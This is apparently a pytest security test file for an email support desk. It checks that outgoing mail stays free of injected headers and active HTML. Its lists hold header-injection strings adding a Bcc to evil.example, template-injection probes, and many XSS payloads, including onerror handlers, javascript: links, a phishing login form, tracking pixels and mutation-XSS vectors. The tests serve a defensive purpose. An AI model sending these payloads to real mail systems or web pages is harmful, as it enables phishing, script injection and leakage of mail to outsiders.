"""What strangers write stays data: in headers, in templates and in the HTML that agents and customers open."""

import re
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any

import pytest
from selectolax.lexbor import LexborHTMLParser

from mailbot.core.letters import LetterKind
from tests.desk import Sent
from tests.security.play import COMPLAINT, MARI, Play, raw

OUR_HEADERS = {"from", "to", "cc", "reply-to", "subject", "date", "message-id", "in-reply-to", "references",
               "auto-submitted", "x-auto-response-suppress", "x-mailbot", "content-language", "mime-version",
               "content-type", "content-transfer-encoding"}  # fmt: skip
INJECTED = [
    "=?utf-8?q?x=0D=0ABcc:_eve=40evil=2Eexample?=",
    "=?utf-8?q?x=0ABcc:_eve=40evil=2Eexample?=",
    "=?utf-8?q?x=0DBcc:_eve=40evil=2Eexample?=",
    "=?utf-8?q?x=00=1C=C2=85=E2=80=A8Bcc:_eve=40evil=2Eexample?=",
    "=?utf-8?b?eA0KQmNjOiBldmVAZXZpbC5leGFtcGxlDQoNCmJvZHk=?=",
    "=?utf-16?b?//4NAAoAQgBjAGMAOgA=?=",
    "x\rBcc: eve@evil.example",
    "x\x0bBcc: eve@evil.example",
    "x\x00Bcc: eve@evil.example",
    "\u202emoc.elpmaxe.live\u202c \u2066x",
    "x" * 10_000,
    "ä" * 10_000,
    "=?utf-8?q?" + "=0D=0A" * 3000 + "?=",
    "\udcff\udcfe raw bytes",
    '" <eve@evil.example>, "',
    '(((((((((( \\\\\\" <<<',
    "{{ 7*7 }} {% for x in y %} {{ words.__class__.__mro__ }}",
    "zq90qz zq91qz zq9999999999qz",
    "[x](javascript:alert(1)) **b** `c` <b>x</b> ![i](https://evil.example/i.png)",
    "# resolve",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</title><script>alert(1)</script>",
]


def check_form(sent: Sent) -> None:
    """A mail of ours has our headers as they should be, and nobody but those whom the tests know reads it."""
    check_headers(sent)
    domains = {a.addr_spec.partition("@")[2] for a in _readers(sent)}
    assert domains <= {"acme.example", "evil.example", "mail.example"}


def check_headers(sent: Sent) -> None:
    """A mail of ours has our headers, each once and each short enough for every server."""
    head = sent.raw.partition(b"\r\n\r\n")[0]
    assert b"\x00" not in head
    assert not re.search(rb"(?<!\r)\n|\r(?!\n)", head)
    names = [line.partition(b":")[0].decode().lower() for line in head.split(b"\r\n") if line[:1] not in b" \t"]
    assert len(names) == len(set(names))
    assert set(names) <= OUR_HEADERS
    assert all(len(line) <= 998 for line in sent.raw.split(b"\r\n"))
    assert sent.mail["Bcc"] is None
    assert len(str(sent.mail["Subject"])) < 400
    assert len(sent.mail["From"].addresses) == 1
    assert sent.mail["From"].addresses[0].addr_spec == "support@acme.example"
    assert sent.row.recipient in [a.addr_spec.encode("utf-8", "surrogateescape").decode() for a in _readers(sent)]
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", f"{sent.mail['From']}{sent.mail['Subject']}")


def _readers(sent: Sent) -> list[Any]:
    return [a for name in ("To", "Cc") if sent.mail[name] for a in sent.mail[name].addresses]


def check_page(sent: Sent) -> None:
    """The HTML of a mail of ours runs nothing, loads nothing and ends where it should."""
    html = sent.html
    lowered = html.lower()
    for forbidden in ("<script", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<svg", "<math", "<link",
                      "<base", "<video", "<audio", "http-equiv", "@import",
                      "<textarea", "<select", "<frame", "<applet", "<noscript", "<plaintext", "<xmp", "<!--",
                      "<![cdata"):  # fmt: skip
        assert forbidden not in lowered, forbidden
    tree = LexborHTMLParser(html)
    assert len(tree.css("style")) == 1
    assert len(tree.css("body")) == 1
    for node in tree.css("*"):
        attributes = node.attributes
        assert not [name for name in attributes if name.startswith("on")], node.html
        assert {"id", "class", "srcset", "background", "action", "formaction"} & set(attributes) <= {"class"}
        assert attributes.get("class") in (None, "mail", "words")
        assert not (attributes.get("src") or "cid:").startswith(("http", "//", "data:"))
        href = attributes.get("href")
        assert href is None or re.match(r"(?i)(https?|mailto|tel):", href.strip()), href
        style = (attributes.get("style") or "").lower()
        ours = attributes.get("class") in ("mail", "words")
        assert ours or not re.search(
            r"position|url\(|expression|display|opacity|z-index|margin|height|import", style
        ), style
    last = tree.css("div.mail")[0]
    assert len(tree.css("div.mail")) == 1
    # Our own words below the customer's are shown, outside of the customer's block.
    if sent.row.kind is LetterKind.NOTIFICATION:
        closing = last.last_child
        while closing is not None and not (closing.text() or "").strip():
            closing = closing.prev
        assert closing is not None
        assert closing.text().strip().startswith("[ref:")
        assert not closing.css("s, u, b, font, a")


def everything_about(play: Play, complaint: bytes) -> list[Sent]:
    """All that the desk writes when this complaint comes, is answered, resolved and followed up."""
    before = len(play.sent)
    row = play.arrive(complaint)
    assert row.disposition.value == "case_opened", row.error or row.detail
    notification = next(m for m in play.fresh if m.row.kind is LetterKind.NOTIFICATION)
    member = notification.row.recipient
    play.write("#resolve\n#assign jaan\n\nDear customer, it is done.", by=member, **play.thread(notification))
    play.write("#status\n#help", by=member, **play.thread(notification))
    play.write("hello", by=member, subject=notification.mail["Subject"])
    return play.sent[before:]


@pytest.mark.parametrize("value", INJECTED, ids=range(len(INJECTED)))
def test_what_a_stranger_writes_stays_where_it_belongs(play: Play, value: str) -> None:
    lines = (
        f'From: "{value}" <eve@evil.example>',
        "To: support@acme.example",
        f"Subject: {value}",
        f"Message-ID: <{value}@evil.example>",
        f"References: <{value}> <a@b.example>",
        f'Cc: "{value}" <jane@mail.example>',
        f'Reply-To: "{value}" <eve2@evil.example>',
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=b",
    )
    body = (
        "--b\nContent-Type: text/plain; charset=utf-8\n\nMy order came five days late, I want a refund.\n"
        f"Order number: {value}\n--b\nContent-Type: image/jpeg\n"
        f'Content-Disposition: attachment; filename="{value}"\n\nx\n--b--\n'
    )
    sent = everything_about(play, raw(*lines, body=body))
    for mail in sent:
        check_form(mail)
        check_page(mail)
        assert ("49" in mail.text) <= ("49" in value)
        names = [part.get_filename() or "" for part in mail.mail.walk()]
        assert all(len(name) <= 200 and not re.search(r"[/\\\r\n\x00]", name) for name in names)
    if "\r" in value:
        return  # that ended the From line, and nobody is left to write to
    assert {m.row.kind for m in sent} >= {LetterKind.ACKNOWLEDGEMENT, LetterKind.NOTIFICATION, LetterKind.RESOLUTION}
    acknowledgement = next(m for m in sent if m.row.kind is LetterKind.ACKNOWLEDGEMENT)
    words = f"{acknowledgement.mail['To']} {acknowledgement.mail['Subject']} {acknowledgement.text}"
    assert value[:12] not in words
    assert "elpmaxe" not in words
    assert "evil.example" not in words.replace(acknowledgement.row.recipient, "")


PAGES = [
    "<script>alert(1)</script>",
    "<style>.mail{display:none}</style>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src='//evil.example/pixel.gif' srcset='https://evil.example/2x 2x'>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a><a href='JaVaScRiPt&colon;alert(1)'>y</a><a href=' java\nscript:x'>z</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>y</a><a href='file:///etc/passwd'>z</a>",
    "<a href='//evil.example'>x</a><a href='/x'>y</a><a href='#x'>z</a>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'>Log in again</div>",
    "<div style='background:url(https://evil.example/x)'>x</div><p style='color:red;behavior:url(x)'>x</p>",
    "<div style='display:none'>hidden",
    "<div style='color:expression(alert(1))'>x",
    "</div></div></body></html><h1>outside</h1>",
    "</blockquote></div><div class=mail><p>Our words</p>",
    "<div class=mail id=words><p class=words>x",
    "<b><i><u><s><font color=white><a href=https://evil.example>unclosed",
    "<table><tr><td>unclosed",
    "<!-- unclosed",
    "<textarea>unclosed",
    "<title>unclosed",
    "<style>unclosed",
    "<script>unclosed",
    "<plaintext>unclosed",
    "<xmp>unclosed",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><option>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<img src=cid:photo@evil.example><img src=cid:logo>",
    "<img src=\"cid:x' onerror='alert(1)\">",
    "<p>zq90qz zq91qz {{ 7*7 }} {% x %}</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p style='unicode-bidi:bidi-override;direction:rtl'>x\u202ey</p><bdo dir=rtl>x",
    "<div>" * 2000 + "deep",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
]


def _page(page: str, **headers: str) -> bytes:
    mail = EmailMessage(policy=SMTP)
    for name, value in headers.items():
        mail[name.replace("_", "-").title()] = value
    mail.set_content(COMPLAINT)
    mail.add_alternative(f"<p>{COMPLAINT}</p>{page}", subtype="html")
    return mail.as_bytes()


@pytest.mark.parametrize("page", PAGES, ids=range(len(PAGES)))
def test_a_customers_page_does_no_harm_to_an_agent(play: Play, page: str) -> None:
    play.arrive(_page(page, **{"from": "eve@evil.example", "message_id": "<p@evil.example>", "subject": "Late parcel"}))
    shown = [m for m in play.fresh if m.row.kind is LetterKind.NOTIFICATION]
    assert shown
    for mail in play.fresh:
        check_form(mail)
        check_page(mail)


@pytest.mark.parametrize("page", PAGES, ids=range(len(PAGES)))
def test_an_agents_page_does_no_harm_to_a_customer(play: Play, page: str) -> None:
    headers = {"from": MARI, "message_id": "<p@acme.example>"} | play.thread(play.notification())
    play.arrive(_page(page, **headers))
    for mail in play.fresh:
        check_form(mail)
        check_page(mail)


def test_pictures_with_one_name_do_not_take_each_others_place(play: Play) -> None:
    mail = EmailMessage(policy=SMTP)
    mail["From"], mail["Message-ID"], mail["Subject"] = "eve@evil.example", "<cid@evil.example>", "Late parcel"
    mail.set_content(COMPLAINT)
    mail.add_alternative(f"<p>{COMPLAINT}</p><img src='cid:a@b'><img src='cid:a@b'>", subtype="html")
    for _ in range(2):
        mail.get_payload()[1].add_related(b"GIF89a", "image", "gif", cid="<a@b>")  # type: ignore[union-attr,index]
    play.arrive(mail.as_bytes())
    notification = next(m for m in play.fresh if m.row.kind is LetterKind.NOTIFICATION)
    ids = [part["Content-ID"] for part in notification.mail.walk() if part["Content-ID"]]
    assert len(ids) == len(set(ids))
